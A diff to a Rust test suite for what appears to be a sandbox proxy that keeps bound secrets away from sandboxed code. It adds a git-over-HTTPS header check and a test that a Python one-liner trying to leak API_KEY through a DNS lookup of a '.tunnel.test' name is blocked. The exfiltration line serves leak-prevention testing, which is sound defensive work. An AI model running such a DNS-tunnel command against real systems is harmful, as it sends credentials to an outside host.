@@ -103,6 +103,23 @@ async fn a_bound_secret_reaches_its_host_and_never_the_sandbox() {
     .await;
     assert_eq!(node, "recorded\n");
     assert_eq!(net.recorded().last().unwrap()["headers"]["x-key"], VALUE);
+    // git over https trusts it too (the answer is no repository, but TLS and the header
+    // went through).
+    let git = exec(
+        &client,
+        &id,
+        "git -c http.extraHeader=\"Authorization: Bearer $API_KEY\" ls-remote https://api.example.test/record 2>&1",
+    )
+    .await;
+    let said = git["stdout"].as_str().unwrap();
+    assert!(!said.contains("certificate"), "{git}");
+    assert!(
+        net.recorded().iter().any(
+            |r| r["path"].as_str().unwrap_or("").contains("git-upload-pack")
+                && r["headers"]["authorization"] == format!("Bearer {VALUE}")
+        ),
+        "{git}"
+    );
 
     // A second secret, for other.test, bound later: TLS to other.test is decrypted from now on
     // (no restart), and the first secret's stand-in sent there is a leak attempt.
@@ -161,6 +178,19 @@ async fn a_bound_secret_reaches_its_host_and_never_the_sandbox() {
     assert!(
         plain["stdout"].as_str().unwrap().contains("https"),
         "{plain}"
+    );
+    // In a DNS name (a tunnel for it): refused, never forwarded.
+    let dns = exec(
+        &client,
+        &id,
+        "python3 -c 'import os,socket; socket.gethostbyname(os.environ[\"API_KEY\"] + \".tunnel.test\")'",
+    )
+    .await;
+    assert_ne!(dns["exit_code"], 0, "{dns}");
+    assert!(
+        net.dns_queries().iter().all(|q| !q.contains("sbxsecret")),
+        "{:?}",
+        net.dns_queries()
     );
     let seen = net.recorded();
     assert!(
